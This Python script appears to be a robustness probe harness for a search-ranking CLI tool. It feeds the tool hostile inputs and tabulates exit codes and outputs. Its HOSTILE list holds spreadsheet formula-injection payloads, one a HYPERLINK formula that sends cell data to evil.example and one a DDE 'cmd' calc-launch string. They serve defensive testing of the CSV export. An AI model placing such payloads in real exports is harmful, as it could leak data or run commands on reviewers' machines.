"""The attacker's probe table (issue 23), re-runnable: every probe is a real ``taosr1`` CLI process on a fresh
warehouse, and the table says what the terminal got (exit code, a traceback or not) and what the tables hold.

    .venv/bin/python bench/hostile_probe.py [--workdir /tmp/taosr1-probe]

Probes: formula cells in the raters' CSV from hostile log queries; a hostile user file (NUL and DEL in ids, a 2 MiB
title, 3 vs 3.0, a conflicting duplicate); vacuum with retention 0; a pickle-only model folder; a dead engine;
tracking at a closed port; a copied warehouse writing outside itself. (Concurrent and killed promotes need
timing control a CLI run cannot give: ``tests/test_promote.py`` and ``tests/test_faults.py`` cover them.)
"""

from __future__ import annotations

import argparse
import csv
import json
import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

CLI = str(Path(sys.executable).parent / "taosr1")
DAY = "2026-11-19"
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&B2,"open")', "=cmd|' /C calc'!A0 drill", "@SUM(1+1) hammer",
           "+1+1 grill", "-2+3 paint"]


def run(args: list[str], env: dict | None = None, timeout: int = 900) -> tuple[int, str, float]:
    t = time.time()
    p = subprocess.run([CLI, *args], capture_output=True, text=True, timeout=timeout,
                       env={**os.environ, **(env or {})})
    return p.returncode, p.stdout + p.stderr, time.time() - t


def dead_url() -> str:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return f"http://127.0.0.1:{s.getsockname()[1]}/v1"


def tree(root: Path) -> dict[str, float]:
    return {str(p): p.stat().st_mtime for p in root.rglob("*") if p.is_file()}


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--workdir", default="/tmp/taosr1-probe")
    args = ap.parse_args()
    work = Path(args.workdir)
    shutil.rmtree(work, ignore_errors=True)
    wh = work / "wh"
    rows: list[tuple[str, str, str]] = []

    def row(probe: str, rc: int, out: str, seen: str) -> None:
        tb = "traceback" if "Traceback" in out else "no traceback"
        rows.append((probe, f"rc {rc}, {tb}", seen))
        print(f"{probe}: rc {rc}, {tb}; {seen}", flush=True)

    # a warehouse: the world's judgments, one simulated day with hostile queries appended, the built-in model
    assert run(["load-labels", "--warehouse", str(wh)])[0] == 0
    assert run(["simulate-logs", "--days", "1", "--sessions-per-day", "60", "--out", str(work / "raw")])[0] == 0
    day = next((work / "raw").glob(f"ds={DAY}/*.jsonl"))
    with open(day, "a") as f:
        for i, q in enumerate(HOSTILE):
            for kind in ("impression", "click"):
                f.write(json.dumps({"session_id": f"s-evil-{i}", "user_id": "u-evil", "query_id": f"q-evil-{i}",
                                    "query": q, "product_id": "P00001", "position": 1, "event_type": kind,
                                    "ts": f"{DAY}T12:00:0{i}.000Z", "event_id": f"e-evil-{i}-{kind}"}) + "\n")
    assert run(["ingest", "--ds", DAY, "--input", str(work / "raw"), "--warehouse", str(wh)])[0] == 0
    model = wh / "models" / "taosr1-builtin"
    assert run(["model", "init", "--out", str(model), "--warmup-steps", "20", "--warehouse", str(wh)])[0] == 0

    # 1. formula cells in the raters' export
    rc, out, _ = run(["corpus", "candidates", "--start", DAY, "--end", DAY, "--warehouse", str(wh)])
    rc2, out2, _ = run(["corpus", "annotate", "--window-id", f"{DAY}_{DAY}", "--budget", "400", "--export-dir",
                        str(work / "export"), "--warehouse", str(wh)])
    cells = [c for p in (work / "export").rglob("*.csv") for r in csv.reader(open(p, newline="")) for c in r]
    bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    evil = [c for c in cells if any(h.lstrip("=+-@") in c for h in HOSTILE)]
    row("1. hostile queries → raters' CSV", max(rc, rc2), out + out2,
        f"{len(evil)} hostile cells exported, {len(bad)} start with = + - @ tab CR")

    # 7. a hostile user file
    big = "x" * (2 * 1024 * 1024)
    lines = ["query,product_id,title,label", "drill,u-c\x00tl,Drill A,3", "drill,u-d\x7f,Drill B,2",
             f"hammer,u-e,{big},4", "hose,u-f,Hose,3", "hose,u-f,Hose,3.0", "paint,u-g,Paint,2", "paint,u-g,Paint,4"]
    (work / "bad.csv").write_text("\n".join(lines) + "\n")
    rc, out, _ = run(["load-labels", "--source", "user", "--name", "bad", "--labels", str(work / "bad.csv"),
                      "--warehouse", str(wh)])
    said = [ln.strip() for ln in out.splitlines() if ln.strip().startswith("row ")]
    row("7. hostile user file", rc, out, f"{len(said)} rows named in one pass: " + "; ".join(s[:40] for s in said))

    # 6. vacuum with retention 0, no flag
    rc, out, _ = run(["vacuum", "--apply", "--retention-hours", "0", "--warehouse", str(wh)])
    row("6. vacuum --retention-hours 0", rc, out, out.strip().splitlines()[-1][:90] if out.strip() else "")

    # 8. a pickle-only model folder
    pk = work / "pickle-model"
    pk.mkdir()
    (pk / "config.json").write_text(json.dumps({"model_type": "llama", "architectures": ["LlamaForCausalLM"]}))
    (pk / "pytorch_model.bin").write_bytes(b"\x80\x04not really a pickle")
    rc, out, _ = run(["model", "import", str(pk), "--out", str(work / "imported"), "--warehouse", str(wh)])
    row("8. model import of a pickle-only folder", rc, out, out.strip().splitlines()[-1][:90] if out.strip() else "")

    # 8. a dead engine
    log = work / "tasks.log"
    rc, out, _ = run(["score", "--ds", DAY, "--engine", "openai", "--base-url", dead_url(), "--model", str(model),
                      "--warehouse", str(wh)], env={"TAOSR1_SPARK_LOG": str(log)})
    row("8. dead engine (score)", rc, out, f"executor stacks on the terminal: {'Exception in task' in out}; in the "
        f"task log: {log.exists() and 'Exception in task' in log.read_text()}")

    # 4. tracking at a closed port: the evaluation's cost with and without
    ev = ["evaluate", "--source", "world", "--train-source", "world", "--models", f"m={model}", "--no-embeddings",
          "--max-pairs", "60",
          "--bootstrap-draws", "0", "--calibrate-pairs", "60", "--warehouse", str(wh)]
    rc0, out0, t0 = run(ev)
    rc, out, t1 = run(ev, env={"MLFLOW_TRACKING_URI": "http://127.0.0.1:9"})
    warn = [ln for ln in out.splitlines() if "tracking" in ln.lower()]
    row("4. tracking at a closed port (evaluate)", rc, out, f"{t1:.0f} s vs {t0:.0f} s with tracking on (rc {rc0}); "
        f"{len(warn)} line(s) about tracking")

    # 5. a copied warehouse writes nothing outside itself
    copy = work / "wh-copy"
    shutil.copytree(wh, copy, symlinks=True)
    before = tree(wh)
    rc, out, _ = run([*ev[:-1], str(copy)])
    changed = [p for p, m in tree(wh).items() if before.get(p) != m]
    row("5. evaluate in a `cp -a` copy", rc, out, f"{len(changed)} file(s) of the original changed")

    print("\n| probe | terminal | what the tables / files hold |\n|---|---|---|")
    for probe, term, seen in rows:
        print(f"| {probe} | {term} | {seen} |")


if __name__ == "__main__":
    main()
